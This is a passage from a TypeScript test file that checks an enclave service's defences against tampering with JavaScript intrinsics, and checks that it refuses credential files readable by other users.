      build.onLoad({ filter: /frozen-intrinsics\.ts$/ }, () => ({ contents: '', loader: 'ts' })),
  };
  const patchedIn = async (name: EnclaveProgram, flags: readonly string[], plugins: Plugin[]) => {
    const { code } = await bundleEnclave(name, undefined, plugins);
    const output = execFileSync(process.execPath, flags, {
      input: code,
      env: {},
      stdio: ['pipe', 'pipe', 'ignore'],
    });
    return JSON.parse(output.toString()) as string[];
  };
  for (const name of ['policy', 'signer', 'certifier', 'realm'] as const)
    assert.deepEqual(await patchedIn(name, nodeFlags, [takenOver]), [], name);
  // The control: the same program without freezing, and without the two flags that are the rest of the defence.
  const defence = ['--disable-proto=throw', '--disallow-code-generation-from-strings'];
  const flags = nodeFlags.filter((flag) => !defence.includes(flag));
  assert.equal((await patchedIn('policy', flags, [takenOver, withoutFreezing])).length, 12);
});

test('H17 reading keys, rows or records as another user is refused by the modes of all files, and credentials that others may read are not used', () => {
  const open = (folder: string) =>
    readdirSync(folder, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => join(entry.parentPath, entry.name))
      .filter((path) => (statSync(path).mode & 0o077) !== 0)
      .map((path) => path.slice(folder.length + 1));
  const files = [...open(running.home), ...open(running.heads)].sort();
  // What the deployment is called, how it is isolated, what is certified of it and which programs run is for everybody to read.
  assert.deepEqual(files, [
    'certificates.json',
    'deployment.json',
    'isolation.json',
    'programs/gateway.mjs',
    'programs/heads.mjs',
  ]);
  const folder = mkdtempSync(join(tmpdir(), 'keystead-'));
  try {
    const path = join(folder, 'credentials.json');
    const made = newCredentials({ api: running.api, deploymentId: running.stack.deploymentId });
    writeCredentials(path, made);
    for (const mode of [0o604, 0o640, 0o666]) {
      chmodSync(path, mode);
      assert.throws(() => readCredentials(path), `${mode.toString(8)}`);
    }
    chmodSync(path, 0o600);
    assert.ok(readCredentials(path));
  } finally {
    rmSync(folder, { recursive: true });
  }
});
